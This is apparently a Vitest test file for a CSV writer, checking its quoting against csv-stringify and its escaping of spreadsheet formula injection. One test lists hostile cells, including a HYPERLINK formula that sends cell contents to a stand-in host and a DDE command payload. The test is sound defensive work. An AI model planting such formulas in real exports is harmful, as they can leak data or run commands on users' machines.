import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../sync/csv-text.ts';

// Values of every kind a row may hold, and text with what needs quoting where it can be.
const VALUES: unknown[] = [
  '', 'plain', '中文 名字', ' spaced ', 'a,b', 'say "hi"', '"', ',', '""', 'line\nbreak', 'cr\rhere', 'crlf\r\n', '\n', 'a=1+2', '-3', '+886912345678', "it's", '\ufeffbom',
  0, -0, 1, -1.5, -1200, 1e21, 0.1 + 0.2, Number.NaN, Number.POSITIVE_INFINITY, 10n, true, false, null, undefined, new Date(Date.UTC(2024, 4, 1)), { a: 1, b: 'x,y' }, ['a', 'b'], ['=x'],
];

describe('csvText', () => {
  it('writes what csv-stringify writes with its defaults, with and without a byte-order mark', () => {
    const records = [
      ['id', 'name', 'reason'],
      ...VALUES.map((v, i) => [v, VALUES[(i * 7 + 3) % VALUES.length], `${i}`]),
      ...VALUES.map((v) => [v]),
      VALUES,
      [],
    ];
    for (const bom of [true, false]) {
      expect(csvText(records, bom)).toBe(stringify(records, { bom }));
      expect(csvText([], bom)).toBe(stringify([], { bom }));
    }
  });

  it('makes text a spreadsheet would run as a formula start with a quote, so it is only text', () => {
    const cells = ['=HYPERLINK("http://x.example/?"&A1,"hi")', '+1+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1', '\r=1', '\0=1', '-', '=', "'=already"];
    expect(csvText([cells], false)).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""hi"")",'+1+cmd,'-2+3+cmd|' /C calc'!A0,'@SUM(A1:A9),'\t=1,"'\r=1",'\0=1,'-,'=,'=already\n`,
    );
  });

  it('leaves plain signed numbers alone, as text and as numbers, so amounts and phones stay usable', () => {
    expect(csvText([['-1200', '-3.5', '+886912345678', -1200, -0.5, '-1,200', '-1e3']], false)).toBe(`-1200,-3.5,+886912345678,-1200,-0.5,"'-1,200",'-1e3\n`);
  });
});
